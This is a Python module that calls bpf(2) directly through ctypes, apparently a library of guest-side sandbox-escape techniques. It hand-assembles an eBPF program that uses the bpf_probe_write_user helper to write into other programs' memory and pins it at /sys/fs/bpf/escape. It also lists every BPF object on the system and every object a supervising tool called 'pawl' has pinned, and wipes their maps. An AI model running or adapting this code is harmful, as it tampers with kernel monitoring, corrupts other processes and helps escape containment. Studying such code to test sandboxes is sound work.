# SPDX-License-Identifier: Apache-2.0
"""bpf(2) by its numbers, for techniques that run in a guest alone."""

import ctypes
import os
import struct

LIBC = ctypes.CDLL(None, use_errno=True)


def attempt(command, attr):
    """A descriptor, 0, or -1."""
    attr = ctypes.create_string_buffer(attr, 128)
    return LIBC.syscall(321, command, attr, 128)


def bpf(command, attr):
    ret = attempt(command, attr)
    if ret < 0:
        raise OSError(ctypes.get_errno(), f"bpf {command}")
    return ret


def insn(code, registers=0, offset=0, value=0):
    return struct.pack("BBhi", code, registers, offset, value)


def load(kind, code, expected=0):
    code = ctypes.create_string_buffer(b"".join(code), len(code) * 8)
    name = ctypes.create_string_buffer(b"GPL")
    return bpf(5, struct.pack("IIQQIIQII16sII", kind, len(code) // 8, ctypes.addressof(code),
        ctypes.addressof(name), 0, 0, 0, 0, 0, b"escape", 0, expected))


def load_writer(kind):
    """A program that may write to the memory of programs, pinned where it is seen."""
    code = [insn(0xBF, 0xA1), insn(0x07, 1, 0, -8), insn(0x7A, 0x0A, -8, 0), insn(0xBF, 0xA2),
            insn(0x07, 2, 0, -8), insn(0xB7, 3, 0, 8), insn(0x85, 0, 0, 36), insn(0xB7), insn(0x95)]
    program = load(kind, code)
    path = ctypes.create_string_buffer(b"/sys/fs/bpf/escape")
    bpf(6, struct.pack("QI", ctypes.addressof(path), program))


def by_id(next_command, get_command):
    """A descriptor, or -1, for each object that there is."""
    number = 0
    while True:
        attr = ctypes.create_string_buffer(struct.pack("II", number, 0), 128)
        if LIBC.syscall(321, next_command, attr, 128):
            return
        number = struct.unpack_from("I", attr, 4)[0]
        yield attempt(get_command, struct.pack("I", number))


def by_pin():
    """The same for all that pawl has pinned."""
    pins = os.environ["PIN_DIR"]
    for name in os.listdir(pins):
        path = ctypes.create_string_buffer(f"{pins}/{name}".encode())
        yield attempt(7, struct.pack("QII", ctypes.addressof(path), 0, 0))


def wipe(fd):
    """Empties a map."""
    if fd < 0:
        return
    key = ctypes.create_string_buffer(256)
    junk = ctypes.create_string_buffer(65536)
    for index in range(4096):
        struct.pack_into("I", key, 0, index)
        attempt(2, struct.pack("I4xQQQ", fd, ctypes.addressof(key), ctypes.addressof(junk), 0))
        attempt(3, struct.pack("I4xQ", fd, ctypes.addressof(key)))
